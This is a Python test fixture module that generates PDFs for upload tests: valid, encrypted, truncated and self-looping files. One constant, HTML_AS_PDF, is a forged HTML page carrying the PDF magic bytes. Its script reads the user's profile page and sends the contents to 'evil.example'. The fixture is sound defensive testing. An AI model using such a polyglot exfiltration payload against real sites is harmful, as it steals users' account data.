"""PDFs for the upload tests, made with pypdf (nothing downloaded), and forgeries of them."""

import functools
import io

from pypdf import PdfWriter

A4 = (595, 842)


@functools.cache
def pdf(pages: int = 1, *, password: str | None = None) -> bytes:
    """A valid PDF of ``pages`` blank A4 pages; encrypted (RC4, which pypdf writes without
    extra libraries) when ``password`` is given."""
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(*A4)
    if password is not None:
        writer.encrypt(user_password=password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


#: An HTML page with a script that starts with the PDF magic (and even ends like a PDF).
HTML_AS_PDF = (
    b"%PDF-1.7\n<!doctype html><html><body><script>fetch('/konto/profil/')"
    b".then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"
    b"</script></body></html>\n%%EOF\n"
)


def truncated() -> bytes:
    """The first half of a valid PDF, as an interrupted upload or copy leaves it."""
    whole = pdf(3)
    return whole[: len(whole) // 2]


def page_tree_loop() -> bytes:
    """A one-page PDF whose page tree lists itself among its own kids."""
    whole = pdf(1)
    assert b"/Kids [ 4 0 R ]" in whole
    return whole.replace(b"/Kids [ 4 0 R ]", b"/Kids [ 2 0 R ]")
